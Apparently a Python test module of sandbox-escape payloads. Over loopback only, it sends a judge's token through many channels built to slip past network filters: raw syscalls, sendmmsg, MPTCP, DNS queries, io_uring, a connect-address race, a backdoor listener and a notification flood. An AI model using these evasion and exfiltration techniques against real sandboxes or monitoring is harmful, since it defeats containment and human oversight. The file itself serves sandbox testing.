"""Payloads that talk: loopback only, to listeners that the judge owns. What they send is the judge's token."""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import os
import socket
import struct
import threading
import time
from typing import Any

import attack_native as native

RACE_SECONDS = 0.8


def tcp(engine: Any, world: dict[str, Any]) -> None:
    with socket.create_connection(("127.0.0.1", world["tcp"]), 5) as sock:
        sock.sendall(world["token"].encode())


def tcp6(engine: Any, world: dict[str, Any]) -> None:
    with socket.create_connection(("::1", world["tcp6"]), 5) as sock:
        sock.sendall(world["token"].encode())


def udp(engine: Any, world: dict[str, Any]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(world["token"].encode(), ("127.0.0.1", world["udp"]))


def udp6(engine: Any, world: dict[str, Any]) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(world["token"].encode(), ("::1", world["udp6"]))


def http(engine: Any, world: dict[str, Any]) -> None:
    import urllib.request

    urllib.request.urlopen(f"http://127.0.0.1:{world['tcp']}/{world['token']}", timeout=0.2)


def unix_path(engine: Any, world: dict[str, Any]) -> None:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(world["unix"])
        sock.sendall(world["token"].encode())


def unix_datagram(engine: Any, world: dict[str, Any]) -> None:
    """sendto without connect: a filter on connect alone lets it pass."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendto(world["token"].encode(), world["unix_datagram"])


def unix_abstract(engine: Any, world: dict[str, Any]) -> None:
    """No file to hide: only a network namespace or Landlock's scope keeps it in."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\0" + world["abstract"])
        sock.sendall(world["token"].encode())


def paired_datagram(engine: Any, world: dict[str, Any]) -> None:
    """socketpair instead of socket, then sendto elsewhere from one end."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        raw = b"\0" + world["abstract_datagram"].encode()
        address = struct.pack("H", socket.AF_UNIX) + raw
        token = world["token"].encode()
        # A connected datagram socket may be connected anew.
        native.call(42, ours.fileno(), address, len(address))
        native.call(44, ours.fileno(), token, len(token), 0, 0, 0)


def sendmsg(engine: Any, world: dict[str, Any]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([world["token"].encode()], [], 0, ("127.0.0.1", world["udp"]))


def sendmmsg(engine: Any, world: dict[str, Any]) -> None:
    """sendmmsg(2), which filters on sendto and sendmsg forget."""
    token = ctypes.create_string_buffer(world["token"].encode())
    address = ctypes.create_string_buffer(_inet(world["udp"]))
    vector = (ctypes.c_uint64 * 2)(ctypes.addressof(token), len(world["token"]))
    message = (ctypes.c_uint64 * 8)(ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        native.call(307, sock.fileno(), ctypes.byref(message), 1, 0)


def fast_open(engine: Any, world: dict[str, Any]) -> None:
    """MSG_FASTOPEN: a TCP connection without connect(2)."""
    with socket.socket() as sock:
        sock.sendto(world["token"].encode(), 0x20000000, ("127.0.0.1", world["tcp"]))
        time.sleep(0.05)


def raw_socket_call(engine: Any, world: dict[str, Any]) -> None:
    """socket and connect by number."""
    number = native.call(41, 2, 1, 0)
    native.call(42, number, _inet(world["tcp"]), 16)
    os.write(number, world["token"].encode())
    os.close(number)


def multipath(engine: Any, world: dict[str, Any]) -> None:
    """MPTCP: protocol 262, which rules on TCP do not name (Landlock's network rules before 6.13 do not)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as sock:
        sock.connect(("127.0.0.1", world["tcp"]))
        sock.sendall(world["token"].encode())


def dns(engine: Any, world: dict[str, Any]) -> None:
    """A look-up whose question carries the token, through libc's resolver, pointed at the judge."""
    library = native.LIBC
    library.__res_init()
    state = native.LIBC.__res_state
    state.restype = ctypes.c_void_p
    at = int(state() or 0)
    ctypes.memmove(at, struct.pack("ii", 1, 1), 8)
    ctypes.memmove(at + 16, struct.pack("i", 1), 4)
    ctypes.memmove(at + 20, _inet(world["udp"]), 16)
    answer = ctypes.create_string_buffer(512)
    library.res_query(f"{world['token']}.invalid".encode(), 1, 1, answer, 512)


def dns_by_hand(engine: Any, world: dict[str, Any]) -> None:
    """The same question written by hand, over a connected UDP socket."""
    label = world["token"].encode()
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\x07invalid\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("127.0.0.1", world["udp"]))
        sock.send(question)


def listen(engine: Any, world: dict[str, Any]) -> None:
    """A back door: whoever connects is told the token."""
    server = socket.create_server(("127.0.0.1", world["backdoor"]))

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                sock, _ = server.accept()
                sock.sendall(world["token"].encode())
                sock.close()

    threading.Thread(target=serve, daemon=True).start()
    time.sleep(0.3)


def netlink(engine: Any, world: dict[str, Any]) -> bytes:
    """The machine's network interfaces, asked of the kernel."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(2)
        sock.bind((0, 0))
        sock.send(struct.pack("IHHIIBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
        return sock.recv(65536)[:3000]


def interfaces(engine: Any, world: dict[str, Any]) -> bytes:
    return ",".join(name for _, name in socket.if_nameindex()).encode()


def packet(engine: Any, world: dict[str, Any]) -> bytes:
    """A raw packet socket on loopback: sees all that the machine tells itself."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.bind(("lo", 0))
    return world["token"].encode()


def vsock(engine: Any, world: dict[str, Any]) -> bytes:
    """A socket to the hypervisor. Made, never connected."""
    with socket.socket(40, socket.SOCK_STREAM):
        return world["token"].encode()


def raw_icmp(engine: Any, world: dict[str, Any]) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sock:
        token = world["token"].encode()
        sock.sendto(struct.pack(">HHHH", 4, world["udp"], 8 + len(token), 0) + token, ("127.0.0.1", 0))
    return b""


def kernel_crypto(engine: Any, world: dict[str, Any]) -> bytes:
    """AF_ALG: a socket family with a history of holes."""
    with socket.socket(38, socket.SOCK_SEQPACKET):
        return world["token"].encode()


def io_uring(engine: Any, world: dict[str, Any]) -> None:
    """socket, connect and send through a ring: no system call of those names is made."""
    ring = Ring()
    number = ring.do(45, fd=2, off=1)
    ring.do(16, fd=number, addr=ctypes.create_string_buffer(_inet(world["tcp"])), off=16)
    token = ctypes.create_string_buffer(world["token"].encode())
    ring.do(26, fd=number, addr=token, length=len(world["token"]))


def io_uring_mkdir(engine: Any, world: dict[str, Any]) -> None:
    """mkdirat through a ring."""
    Ring().do(37, fd=-100, addr=ctypes.create_string_buffer(world["target"].encode()), length=0o777)


class Ring:
    """As little of io_uring as a payload needs: one operation at a time (io_uring.h, Linux 6.1)."""

    def __init__(self) -> None:
        import mmap

        self._parameters = ctypes.create_string_buffer(120)
        self._fd = native.call(425, 4, self._parameters)
        values = struct.unpack_from("10I", self._parameters.raw, 0)
        self._offsets = struct.unpack_from("10I", self._parameters.raw, 40)
        completion = struct.unpack_from("10I", self._parameters.raw, 80)
        size = max(self._offsets[6] + values[0] * 4, completion[5] + values[1] * 16)
        self._queue = mmap.mmap(self._fd, size, offset=0)
        self._entries = mmap.mmap(self._fd, values[0] * 64, offset=0x10000000)
        self._completion = completion
        self._mask = values[0] - 1

    def do(self, opcode: int, *, fd: int, addr: Any = None, length: int = 0, off: int = 0) -> int:
        (tail,) = struct.unpack_from("I", self._queue, self._offsets[1])
        slot = tail & self._mask
        address = ctypes.addressof(addr) if addr is not None else 0
        entry = struct.pack("BBHiQQIIQ", opcode, 0, 0, fd, off, address, length, 0, 1).ljust(64, b"\0")
        self._entries[slot * 64 : slot * 64 + 64] = entry
        struct.pack_into("I", self._queue, self._offsets[6] + 4 * slot, slot)
        struct.pack_into("I", self._queue, self._offsets[1], tail + 1)
        (head,) = struct.unpack_from("I", self._queue, self._completion[0])
        native.call(426, self._fd, 1, 1, 1, 0, 0)
        (mask,) = struct.unpack_from("I", self._queue, self._completion[2])
        _, result, _ = struct.unpack_from("QiI", self._queue, self._completion[5] + 16 * (head & mask))
        struct.pack_into("I", self._queue, self._completion[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return int(result)


def undumpable(engine: Any, world: dict[str, Any]) -> None:
    """Blind an observer that has no privileges, then connect."""
    native.LIBC.prctl(4, 0, 0, 0, 0)
    tcp(engine, world)


def pointer_race(engine: Any, world: dict[str, Any]) -> None:
    """connect to an address that another thread keeps swapping: what was looked at is not what is used."""
    good, bad = struct.pack("HH4s8x", 0, 0, bytes(4)), _inet(world["tcp"])
    buffer = ctypes.create_string_buffer(good, 16)
    is_over = threading.Event()

    def swap() -> None:
        for content in itertools.cycle((bad, good)):  # the interpreter changes threads at the end of a turn
            ctypes.memmove(buffer, content, 16)
            if is_over.is_set():
                return

    thread = threading.Thread(target=swap, daemon=True)
    thread.start()
    try:
        end = time.monotonic() + RACE_SECONDS
        while time.monotonic() < end:
            with socket.socket() as sock, contextlib.suppress(OSError):
                native.call(42, sock.fileno(), buffer, 16)
                if sock.getpeername()[1] == world["tcp"]:
                    sock.sendall(world["token"].encode())
                    return
    finally:
        is_over.set()
        thread.join()


def notification_flood(engine: Any, world: dict[str, Any]) -> None:
    """Thousands of refused calls, one real attempt among them."""
    for number in range(4000):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as sock:
            sock.connect(f"/nowhere/{number}")
    tcp(engine, world)


def _inet(port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
